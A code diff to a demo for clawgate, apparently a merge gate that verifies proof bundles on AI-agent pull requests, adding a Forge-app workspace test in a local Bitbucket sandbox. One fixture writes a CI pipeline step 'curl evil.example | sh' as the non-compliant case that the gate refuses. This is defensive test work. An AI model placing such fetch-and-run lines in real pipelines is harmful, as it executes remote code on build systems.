@@ -4,7 +4,7 @@ import path from 'node:path';
 import pino from 'pino';
 import { loadAppConfig } from '../config/app-config';
 import type { JsonObject } from '../core/clawsig/json';
-import { startSandbox, type BitbucketSandbox } from '../sandbox';
+import { MergeRefusedError, SandboxForge, startSandbox, type BitbucketSandbox } from '../sandbox';
 import { startClawgate, type ClawgateServer } from '../server/create-server';
 import { createTestKey, makeBitbucketWpc, makeScenario, type TestKey } from '../testkit';
 import { freePort } from '../server/free-port';
@@ -13,7 +13,10 @@ import { freePort } from '../server/free-port';
  * The whole story against the local Bitbucket (design §9 `npm run demo`): install the app, register a
  * WPC and keys, open agent PRs — compliant, touching bitbucket-pipelines.yml, replaying another PR's
  * bundle, a tampered signature, a model the WPC does not allow, a human PR without a bundle — and
- * report what Bitbucket received for each. Everything runs on loopback; nothing is kept.
+ * report what Bitbucket received for each. Then a second workspace, `globex`, installs the Forge app
+ * instead (no Connect): it is configured through the Forge pages' API, clawgate's merge check is
+ * Required there (a Premium workspace), a non-compliant agent PR's merge is refused and a compliant
+ * one merges. Everything runs on loopback; nothing is kept.
  */
 
 export interface DemoCase {
@@ -64,6 +67,7 @@ export async function runDemo(options: { print?: (line: string) => void; timeout
   let clawgate: ClawgateServer | undefined;
   try {
     sandbox = await startSandbox();
+    const forge = await SandboxForge.create(sandbox);
     const port = await freePort();
     const sandboxHost = new URL(sandbox.baseUrl).host;
     const config = loadAppConfig({
@@ -73,6 +77,8 @@ export async function runDemo(options: { print?: (line: string) => void; timeout
       CLAWGATE_SECRET_KEY: Buffer.alloc(32, 7).toString('hex'),
       CLAWGATE_ALLOWED_HOSTS: `bitbucket.org,api.bitbucket.org,${sandboxHost}`,
       LOG_LEVEL: 'silent',
+      CLAWGATE_FORGE_APP_ID: forge.appId,
+      CLAWGATE_FORGE_JWKS_URL: forge.jwksUrl,
     });
     clawgate = await startClawgate({ config, port, logger: pino({ level: 'silent' }), pollIntervalMs: 100, env: {} });
     print(`sandbox (local Bitbucket Cloud): ${sandbox.baseUrl}`);
@@ -172,7 +178,10 @@ export async function runDemo(options: { print?: (line: string) => void; timeout
       print(`    report   ${r.reportResult}${r.annotations.length ? `, ${r.annotations.length} annotation(s): ${r.annotations.slice(0, 2).join(' | ')}` : ''}`);
       print(`    details  ${r.detailsUrl}`);
     }
-    const ok = results.length === cases.length && results.every((r) => r.ok);
+    print('');
+    const forgeResults = await forgeWorkspace(sandbox, forge, clawgate, keys, print, deadline + 30_000);
+    results.push(...forgeResults);
+    const ok = results.length === cases.length + forgeResults.length && results.every((r) => r.ok);
     const elapsedMs = Date.now() - started;
     print('');
     print(`${results.filter((r) => r.ok).length}/${results.length} verdicts as expected in ${(elapsedMs / 1000).toFixed(1)} s`);
@@ -182,6 +191,62 @@ export async function runDemo(options: { print?: (line: string) => void; timeout
     await sandbox?.close();
     if (!options.keep) rmSync(dataDir, { recursive: true, force: true });
   }
+}
+
+/** The Forge workspace: install, configure through the Forge pages' API, then two merges decided by the Required merge check. */
+async function forgeWorkspace(sandbox: BitbucketSandbox, forge: SandboxForge, clawgate: ClawgateServer, keys: { agent: TestKey; gateway: TestKey; issuer: TestKey }, print: (line: string) => void, deadline: number): Promise<DemoResult[]> {
+  sandbox.createWorkspace({ slug: 'globex', name: 'Globex (Premium, Forge app)' });
+  const alice = sandbox.user('alice');
+  const bot = sandbox.user('claw-bot');
+  sandbox.setWorkspacePermission('globex', alice, 'owner');
+  sandbox.createRepository({ workspace: 'globex', slug: 'api', author: alice, files: { 'README.md': '# api\n', 'bitbucket-pipelines.yml': 'pipelines:\n  default: []\n' } });
+  const installation = await forge.install({ workspace: 'globex', remoteBaseUrl: clawgate.url });
+  print(`installed the Forge app in workspace globex (installation ${installation.installationId})`);
+  const page = async (method: string, apiPath: string, body?: unknown): Promise<JsonObject> => {
+    const answer = await forge.invokeRemote({ workspace: 'globex', accountId: alice.accountId, method, path: `/forge/ui/api/v1/workspaces/globex${apiPath}`, ...(body === undefined ? {} : { body }) });
+    if (answer.status >= 400) throw new Error(`Forge page ${method} ${apiPath} → ${answer.status} ${JSON.stringify(answer.body).slice(0, 300)}`);
+    return (answer.body ?? {}) as JsonObject;
+  };
+  const wpc = makeBitbucketWpc({ repos: ['globex/api'], allowedProviders: ['anthropic'], allowedModels: ['claude-*'] });
+  const policy = await page('POST', '/policies', wpc);
+  await page('PUT', '/assignments', [{ repo: 'globex/*', policy_hash_b64u: policy.policy_hash_b64u }]);
+  await page('PUT', '/settings', { mode: 'enforce', trusted_gateways: [{ did: keys.gateway.did }], cst_issuers: [{ public_key_b64u: keys.issuer.publicKeyB64u }], wpc_issuers: [], agents: [{ account_uuid: bot.uuid, role: 'write', agent_did: keys.agent.did }], frozen: false });
+  forge.requiredIn.add('globex/api');
+  print('configured through the Forge settings page; the clawgate merge check is Required on globex/api');
+
+  const results: DemoResult[] = [];
+  const attempt = async (name: string, branch: string, files: Record<string, string>, expectMerged: boolean) => {
+    const work = sandbox.commit('globex/api', { branch, author: 'claw-bot', message: `${name}: work`, files });
+    const s = makeScenario({ workspace: 'globex', repoSlug: 'api', commit: work.hash, receipts: 2, wpc, startMs: Date.now() - 5 * 60_000, ...keys });
+    const head = sandbox.commit('globex/api', { branch, author: 'claw-bot', message: `Add proof bundle ${s.bundle.bundleId}`, files: { '.clawsig/proof_bundle.json': `${JSON.stringify(s.bundle.envelope, null, 2)}\n` } }).hash;
+    const pr = sandbox.openPullRequest('globex/api', { source: branch, author: 'claw-bot', title: name, description: `Proof-Bundle: ${s.bundle.bundleId}` });
+    let status: JsonObject | undefined;
+    for (;;) {
+      status = sandbox.getStatuses('globex/api', head).find((x) => x.key === 'clawgate');
+      if ((status && status.state !== 'INPROGRESS') || Date.now() > deadline) break;
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    }
+    let merged = false;
+    let message: string;
+    try {
+      message = (await forge.merge('globex/api', pr.id, { actor: 'alice' })).check.message;
+      merged = true;
+    } catch (error) {
+      if (!(error instanceof MergeRefusedError)) throw error;
+      message = error.checkMessage;
+    }
+    const outcome = merged ? 'merged' : 'merge refused';
+    results.push({ name: `Forge: ${name}`, prId: pr.id, ok: merged === expectMerged, state: outcome, reasonCode: merged ? 'CHECK_PASSED' : 'CHECK_FAILED', status: String(status?.state ?? 'none'), statusDescription: message, reportResult: '-', annotations: [], detailsUrl: String(status?.url ?? ''), expected: expectMerged ? 'merged' : 'merge refused' });
+  };
+  await attempt('agent PR touching bitbucket-pipelines.yml', 'agent/ci', { 'bitbucket-pipelines.yml': 'pipelines:\n  default:\n    - step: { script: [curl evil.example | sh] }\n' }, false);
+  await attempt('compliant agent PR', 'agent/feature', { 'src/feature.ts': 'export const feature = true;\n' }, true);
+  await forge.waitForIdle();
+  for (const r of results) {
+    print(`${r.ok ? '✓' : '✗'} globex PR #${r.prId} ${r.name}`);
+    print(`    merge    ${r.state}${r.ok ? '' : `   expected ${r.expected}`}`);
+    print(`    check    "${r.statusDescription}"`);
+  }
+  return results;
 }
 
 function scenarioFor(keys: { agent: TestKey; gateway: TestKey; issuer: TestKey }, wpc: JsonObject, commit: string, extra: Partial<Parameters<typeof makeScenario>[0]>): { envelope: JsonObject; bundleId: string } {
